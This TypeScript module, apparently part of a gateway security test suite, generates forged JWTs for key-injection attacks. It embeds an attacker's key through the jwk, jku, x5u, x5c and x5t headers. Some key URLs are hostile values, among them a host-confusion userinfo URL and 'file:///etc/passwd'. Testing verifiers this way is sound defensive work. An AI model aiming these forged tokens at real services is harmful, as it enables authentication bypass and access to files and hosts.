import { createHash, createPublicKey } from 'node:crypto';
import type { Attack, AttackContext } from '../attack.ts';
import { selfSignedCertificate } from '../attacker-keys.ts';
import { attackerToken, gatewayHeader } from '../forge.ts';
import { bearerAttack } from '../requests.ts';

type HeaderMembers = (context: AttackContext) => Record<string, unknown>[];

/**
 * Tokens that contain the attacker's key or a URL to fetch it from. Each is signed with that key, by PS256 under the
 * live kid, another kid and no kid, and by RS256.
 */
const embeddedKeyAttack = (id: string, title: string, why: string, members: HeaderMembers): Attack =>
  bearerAttack(id, `a token signed with the attacker's key, ${title}`, why, (context) =>
    members(context).flatMap((extra) => {
      const header = { ...gatewayHeader(context), ...extra };
      return [
        attackerToken(context, { header }),
        attackerToken(context, { header: { ...header, kid: 'attacker' } }),
        attackerToken(context, { header: { ...header, kid: undefined } }),
        attackerToken(context, { header: { ...header, alg: 'RS256' }, algorithm: 'RS256' }),
      ];
    }),
  );

const attackerJwk = ({ attackerKeys }: AttackContext) =>
  createPublicKey(attackerKeys.rsa).export({ format: 'jwk' });

/** URLs of the attacker's key set: another host, the gateway's host as user information, a file, a data URL. */
function attackerUrls(context: AttackContext): string[] {
  const { attackerUrl, host } = context;
  const keySet = JSON.stringify({ keys: [{ ...attackerJwk(context), kid: context.live.kid }] });
  return [
    attackerUrl,
    `http://${host}@${new URL(attackerUrl).host}/keys.json`,
    `${attackerUrl}#/.well-known/jwks.json`,
    'file:///etc/passwd',
    `data:application/json;base64,${Buffer.from(keySet).toString('base64')}`,
  ];
}

function certificateFor({ host, attackerKeys }: AttackContext): Buffer {
  const { hostname } = new URL(`https://${host}`);
  return selfSignedCertificate(attackerKeys.rsa, hostname, Date.now());
}

const thumbprint = (hash: string, bytes: Buffer): string =>
  createHash(hash).update(bytes).digest('base64url');

export const EMBEDDED_KEY_ATTACKS: readonly Attack[] = [
  embeddedKeyAttack(
    'jwk',
    'with its public key in jwk',
    'RFC 7515 §4.1.3; RFC 8725 §3.10; CVE-2018-0114; CVE-2026-27962',
    (context) => [
      { jwk: attackerJwk(context) },
      { jwk: { ...attackerJwk(context), kid: context.live.kid, alg: 'PS256', use: 'sig' } },
    ],
  ),
  embeddedKeyAttack(
    'jku',
    'with the URL of its public key in jku',
    'RFC 7515 §4.1.2; RFC 8725 §2.9, §3.10',
    (context) => attackerUrls(context).map((jku) => ({ jku })),
  ),
  embeddedKeyAttack(
    'x5u',
    'with the URL of a certificate in x5u',
    'RFC 7515 §4.1.5; RFC 8725 §2.9, §3.10',
    (context) => attackerUrls(context).map((x5u) => ({ x5u })),
  ),
  embeddedKeyAttack('x5c', 'with its certificate in x5c', 'RFC 7515 §4.1.6; RFC 8725 §3.10', (context) => [
    { x5c: [certificateFor(context).toString('base64')] },
  ]),
  embeddedKeyAttack(
    'x5t',
    "with its certificate's thumbprint in x5t",
    'RFC 7515 §4.1.7, §4.1.8',
    (context) => {
      const certificate = certificateFor(context);
      return [{ x5t: thumbprint('sha1', certificate) }, { 'x5t#S256': thumbprint('sha256', certificate) }];
    },
  ),
];
